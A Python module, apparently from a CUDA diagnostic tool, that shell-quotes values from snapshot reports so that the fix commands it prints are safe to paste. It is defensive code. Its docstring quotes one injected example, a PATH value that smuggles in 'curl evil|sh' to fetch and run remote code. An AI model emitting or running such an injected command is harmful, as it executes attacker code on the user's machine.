"""Fix commands that are safe to paste: every value a command takes from a snapshot (a toolkit's
path, a package's name or version, a CUDA version) goes through :func:`quote`, so that a crafted
report cannot make ``cudadoctor diagnose`` print ``export PATH=/x;curl evil|sh;#/bin:$PATH`` as a
fix. Ordinary values (``/usr/local/cuda-12.4``, ``torch==2.5.1``) come out as they are; anything
else is single-quoted as POSIX shells read it (:func:`shlex.quote`)."""

from __future__ import annotations

import re
import shlex

_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")


def quote(value: object) -> str:
    """``value`` as one shell word: unchanged when it holds only safe characters, else in single
    quotes (a quote inside written ``'"'"'``). Control characters become ``?``: a value with a
    newline would otherwise be two lines of a pasted command."""
    return shlex.quote(_CONTROL.sub("?", str(value)))


def assign(name: str, value: object) -> str:
    """``export NAME=VALUE`` with the value quoted (``name`` is ours: a variable's name)."""
    return f"export {name}={quote(value)}"


def prepend_path(directory: object, name: str = "PATH") -> str:
    """``export PATH=DIR:$PATH`` with the folder quoted and ``$PATH`` left to the shell."""
    return f"export {name}={quote(directory)}:${name}"


def comment(text: object) -> str:
    """A trailing ``# ...`` comment of one line: no control character, nothing after it runs."""
    return "# " + " ".join(_CONTROL.sub("?", str(text)).split())
